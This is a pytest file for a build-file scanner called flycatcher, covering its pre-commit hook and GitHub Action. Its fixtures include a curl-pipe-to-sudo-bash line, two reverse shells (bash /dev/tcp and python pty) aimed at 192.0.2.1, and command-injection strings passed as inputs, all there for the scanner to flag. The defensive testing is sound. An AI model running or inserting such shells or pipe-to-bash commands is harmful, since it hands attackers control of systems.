"""The pre-commit hook and the GitHub Action, tested by running what they run."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from flycatcher.scanning.engine import scan_bytes
from tests.commands.scan.conftest import PACKAGE, Tree
from tests.delivery.receivers import Answer, HttpReceiver
from tests.report.test_pr import Comments

ROOT = PACKAGE.parent
LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"


@pytest.fixture
def program(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a ``flycatcher`` that runs this source tree."""
    folder = tmp_path_factory.mktemp("bin")
    script = folder / "flycatcher"
    script.write_text(
        f'#!/bin/sh\nPYTHONPATH={shlex.quote(str(PACKAGE))} exec {shlex.quote(sys.executable)} -m flycatcher "$@"\n'
    )
    script.chmod(0o755)
    return folder


def action() -> dict:
    return yaml.safe_load((ROOT / "action.yml").read_text())


def act(tree: Tree, program: Path, **inputs: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """Run the action's last step as the runner does: inputs through the environment."""
    tree.git("init", "-q")
    step = action()["runs"]["steps"][-1]
    defaults = {
        f"FLYCATCHER_{n.upper().replace('-', '_')}": v.get("default", "") for n, v in action()["inputs"].items()
    }
    output = tree.root / "output"
    environment = {
        "PATH": f"{program}:{os.environ['PATH']}", "HOME": str(tree.root), "RUNNER_TEMP": str(tree.root), "GITHUB_OUTPUT": str(output),
        "GITHUB_ACTION_PATH": str(ROOT), "GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(tree.root / "summary.md"),
        "GITHUB_REPOSITORY": "owner/project", "GH_TOKEN": "none", "FLYCATCHER_PULL_REQUEST": "", "FLYCATCHER_BASE": "",
        **{name: defaults[name] for name in step["env"] if name in defaults},
        **{n if n.startswith("GITHUB_") else f"FLYCATCHER_{n}": v for n, v in inputs.items()},
    }  # fmt: skip
    assert environment.keys() >= step["env"].keys()
    (tree.root / "step.sh").write_text(step["run"])
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(tree.root / "step.sh")], cwd=tree.root, env=environment,
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    return done, output.read_text() if output.exists() else ""


def test_no_input_is_interpolated_into_a_script() -> None:
    for step in action()["runs"]["steps"]:
        assert "${{" not in step.get("run", "")


@pytest.mark.parametrize(("version", "words"), [
    (None, [f"-r {ROOT}/requirements/build.lock -r {ROOT}/requirements/run.lock", f"--no-deps --no-build-isolation -- {ROOT}"]),
    ("x==1", ["-- x==1"]),
    ("", []),
])  # fmt: skip
def test_the_action_installs_itself_into_an_environment_of_its_own(
    tmp_path: Path, version: str | None, words: list[str]
) -> None:
    fake = tmp_path / "python3"
    fake.write_text('#!/bin/sh\necho "$*" >>"$OUT"\n')
    fake.chmod(0o755)
    given = action()["inputs"]["version"]["default"] if version is None else version
    environment = {"PATH": f"{tmp_path}:/usr/bin:/bin", "OUT": str(tmp_path / "out"), "GITHUB_ACTION_PATH": str(ROOT),
                   "RUNNER_TEMP": str(tmp_path), "GITHUB_PATH": str(tmp_path / "path"), "FLYCATCHER_VERSION": given}  # fmt: skip
    (step,) = (each for each in action()["runs"]["steps"] if "FLYCATCHER_VERSION" in each.get("env", {}))
    subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=environment, check=True)
    lines = (tmp_path / "out").read_text().splitlines() if words else []
    installs = [line for line in lines if " install " in line]
    assert [line.endswith(end) for line, end in zip(installs, words, strict=True)] == [True] * len(words)
    assert all(f"--python {tmp_path}/flycatcher/bin/python install" in line for line in installs)
    assert not installs or version or "--require-hashes" in installs[0]
    assert not words or (tmp_path / "path").read_text() == f"{tmp_path}/flycatcher/bin\n"


def test_each_input_of_the_action_is_read_by_a_step() -> None:
    read = json.dumps(action()["runs"]["steps"])
    assert [name for name in action()["inputs"] if f"inputs.{name} " not in read] == []


def test_the_action_is_clean_under_its_own_scan() -> None:
    assert scan_bytes("action.yml", (ROOT / "action.yml").read_bytes()).findings == []


def test_the_action_annotates_and_writes_sarif(tree: Tree, program: Path) -> None:
    tree.write("src dir/x.sh", "python3 -c 'print(1)'\n")
    done, output = act(tree, program, PATHS="src dir\n")
    assert (done.returncode, output) == (0, "sarif=flycatcher.sarif\nreport=\n"), done.stderr
    assert done.stdout.startswith("::notice file=src dir/x.sh,line=1,")
    assert len(json.loads((tree.root / "flycatcher.sarif").read_text())["runs"][0]["results"]) == 1


def test_the_action_fails_from_the_risk_that_is_asked_for(tree: Tree, program: Path) -> None:
    tree.write("x.sh", LOUD)
    assert act(tree, program, FAIL_ON="low")[0].returncode == 10
    assert act(tree, program, FAIL_ON="")[0].returncode == 0


def test_a_scan_has_a_step_summary(tree: Tree, program: Path) -> None:
    tree.write("x.sh", LOUD)
    (tree.root / "summary.md").write_text("### Another step's\n")
    act(tree, program, FAIL_ON="low")
    first, _, rest = (tree.root / "summary.md").read_text().partition("\n")
    assert first == "### Another step's"
    assert rest.startswith("### Flycatcher: code on the fly\n")
    assert "1 finding in" in rest


def test_a_scan_writes_the_summary_itself_and_only_on_a_runner(tree: Tree) -> None:
    tree.write("x.sh", LOUD)
    for actions in ("true", ""):
        environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(PACKAGE), "HOME": str(tree.root), "GITHUB_ACTIONS": actions,
                       "GITHUB_STEP_SUMMARY": str(tree.root / f"summary-{actions}.md")}  # fmt: skip
        words = [sys.executable, "-m", "flycatcher", "scan", "--no-history", "--format", "jsonl", "x.sh"]
        done = subprocess.run(
            words, cwd=tree.root, env=environment, capture_output=True, text=True, timeout=120, check=True
        )
        assert done.stdout.count("\n") == 2
    assert not (tree.root / "summary-.md").exists()
    lines = (tree.root / "summary-true.md").read_text().splitlines()
    assert lines[:4] == [
        "### Flycatcher: code on the fly",
        "",
        "| place | how | risk | text | last changed by |",
        "|---|---|---|---|---|",
    ]
    assert lines[4].startswith("| <code>x&#46;sh&#58;1</code> | bash stdin | medium | ")
    assert lines[-1].startswith("1 finding in 1 build file")


def test_a_baseline_a_configuration_and_a_report_reach_the_scan(tree: Tree, program: Path) -> None:
    tree.write("x.sh", LOUD)
    assert act(tree, program, FAIL_ON="low", REPORT="first.json")[0].returncode == 10
    assert act(tree, program, FAIL_ON="low", BASELINE="first.json")[0].returncode == 0
    tree.write("own.toml", "nonsense = 1\n")
    done = act(tree, program, CONFIG="own.toml")[0]
    assert (done.returncode, "own.toml:1: nonsense" in done.stderr) == (1, True), done.stderr


@pytest.mark.parametrize(
    ("comment", "number", "written"), [("true", "7", True), ("true", "", False), ("false", "7", False)]
)
def test_a_pull_request_gets_one_comment_where_that_is_asked_for(
    tree: Tree, program: Path, comment: str, number: str, written: bool
) -> None:
    tree.write("x.sh", LOUD)
    comments = Comments()
    with HttpReceiver(comments.answer) as forge:
        given = {"COMMENT": comment, "PULL_REQUEST": number, "GITHUB_API_URL": forge.address}
        for _ in range(2):
            assert act(tree, program, **given)[0].returncode == 0
        asked = [request.path for request in forge.requests if request.method == "POST"]
    assert asked == (["/repos/owner/project/issues/7/comments"] if written else [])
    assert [body.count("x&#46;sh&#58;1") for body in comments.bodies] == ([1] if written else [])


def test_the_comment_compares_with_the_target_branch(tree: Tree, program: Path) -> None:
    tree.git("init", "-q")
    tree.write("old.sh", LOUD)
    tree.write("kept.sh", "python3 -c 'print(1)'\n")
    tree.commit("first")
    base = tree.git("rev-parse", "HEAD").strip()
    (tree.root / "old.sh").unlink()
    tree.write("new.sh", "perl -e 'print 2'\n")
    comments = Comments()
    with HttpReceiver(comments.answer) as forge:
        given = {"COMMENT": "true", "PULL_REQUEST": "7", "GITHUB_API_URL": forge.address}
        act(tree, program, **given, BASE=base)
        assert "1 new, 1 gone, 1 known." in comments.bodies[0]
        for narrower in (
            {"BASE": "0" * 40},
            {"BASE": base, "SINCE": base},
            {"BASE": base, "PATHS": "../" + tree.root.name},
        ):
            act(tree, program, **given, **narrower)
            assert "known" not in comments.bodies[0]
    assert tree.git("worktree", "list").count("\n") == 1


def test_what_a_command_ran_is_compared_with_an_earlier_report(tree: Tree, program: Path) -> None:
    comments = Comments()
    with HttpReceiver(comments.answer) as forge:
        given = {
            "RUN": "python3 -c 'print(1)'",
            "COMMENT": "true",
            "PULL_REQUEST": "7",
            "GITHUB_API_URL": forge.address,
        }
        act(tree, program, **given, REPORT="first.jsonl")
        act(tree, program, **given, BASELINE="first.jsonl")
    assert "0 new, 0 gone, 1 known." in comments.bodies[0]


def test_a_comment_that_is_refused_is_a_warning(tree: Tree, program: Path) -> None:
    tree.write("x.sh", LOUD)
    with HttpReceiver(lambda request: Answer(403, b"{}")) as forge:
        done, _ = act(tree, program, COMMENT="true", PULL_REQUEST="7", GITHUB_API_URL=forge.address)
    assert done.returncode == 0
    assert "::warning title=Flycatcher::the comment could not be written" in done.stdout


def test_a_command_is_observed_with_reports_and_its_own_exit_code(tree: Tree, program: Path) -> None:
    done, output = act(tree, program, RUN="python3 -c 'print(1)'\nexit 3", REPORT="seen.jsonl", FAIL_ON="high")
    assert done.returncode == 3, done.stderr
    assert output == "sarif=flycatcher.sarif\nreport=seen.jsonl\n"
    assert '"text":"print(1)"' in (tree.root / "seen.jsonl").read_text()
    assert len(json.loads((tree.root / "flycatcher.sarif").read_text())["runs"][0]["results"]) == 1


@pytest.mark.parametrize(("deny", "printed"), [("", "1\n"), ("all", ""), ("critical", "1\n"), ("never", "1\n")])
def test_what_is_asked_for_is_denied(tree: Tree, program: Path, deny: str, printed: str) -> None:
    done, _ = act(tree, program, RUN="python3 -c 'print(1)' || true", DENY=deny, FAIL_ON="")
    assert (done.returncode, done.stdout) == (0, printed), done.stderr


def test_the_observed_text_fails_where_a_part_of_a_pipe_does(tree: Tree, program: Path) -> None:
    assert act(tree, program, RUN="false | cat", FAIL_ON="")[0].returncode == 1


def test_inputs_are_words_and_no_program_text(tree: Tree, program: Path) -> None:
    done, _ = act(tree, program, PATHS="$(touch owned)", SINCE="`touch owned`", SARIF="x';touch owned;'.sarif")
    assert done.returncode != 0
    assert not (tree.root / "owned").exists()


def test_the_pre_commit_hook_stops_a_loud_file(tree: Tree, program: Path) -> None:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    tree.write("quiet.sh", "node -e 'console.log(1)'\n")
    tree.write("loud.sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\npython3 -c 'import os,socket,pty;s=socket.create_connection((\"192.0.2.1\",1));"
               "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n")  # fmt: skip
    environment = {"PATH": f"{program}:{os.environ['PATH']}", "HOME": str(tree.root)}
    codes = [
        subprocess.run(
            [*shlex.split(hook["entry"]), name],
            cwd=tree.root,
            env=environment,
            capture_output=True,
            timeout=60,
            check=False,
        ).returncode
        for name in ("quiet.sh", "loud.sh")
    ]
    assert codes == [0, 10]
